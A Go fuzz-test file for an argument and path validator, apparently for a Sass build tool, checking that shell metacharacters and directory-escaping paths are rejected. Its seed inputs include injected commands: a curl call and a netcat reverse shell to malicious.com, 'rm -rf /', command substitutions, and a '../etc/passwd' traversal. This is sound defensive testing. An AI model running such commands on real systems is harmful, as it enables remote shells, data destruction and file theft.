package validation

import (
	"path/filepath"
	"strings"
	"testing"
)

// FuzzValidateArgument checks that no accepted argument carries a shell
// metacharacter.
func FuzzValidateArgument(f *testing.F) {
	f.Add("--no-source-map")
	f.Add("style.sass; curl malicious.com")
	f.Add("{in} && rm -rf /")
	f.Add("out.css | nc -e /bin/sh malicious.com")
	f.Add("`whoami`")
	f.Add("$(id)")
	f.Add("-o\nrm")

	f.Fuzz(func(t *testing.T, arg string) {
		if len(arg) > 2000 {
			t.Skip("argument too long")
		}

		if ValidateArgument(arg) != nil {
			return
		}
		for _, char := range argumentChars {
			if strings.Contains(arg, char) {
				t.Errorf("accepted metacharacter %q in %q", char, arg)
			}
		}
	})
}

// FuzzValidatePath checks that accepted relative paths never climb out of
// the project directory.
func FuzzValidatePath(f *testing.F) {
	f.Add("./src/markup")
	f.Add("../etc/passwd")
	f.Add("src/../../x")
	f.Add("___Temp/../___Build")

	f.Fuzz(func(t *testing.T, path string) {
		if len(path) > 1000 {
			t.Skip("path too long")
		}

		if ValidatePath(path) != nil || filepath.IsAbs(path) {
			return
		}
		clean := filepath.Clean(path)
		if clean == ".." || strings.HasPrefix(clean, "../") {
			t.Errorf("accepted escaping path %q", path)
		}
	})
}
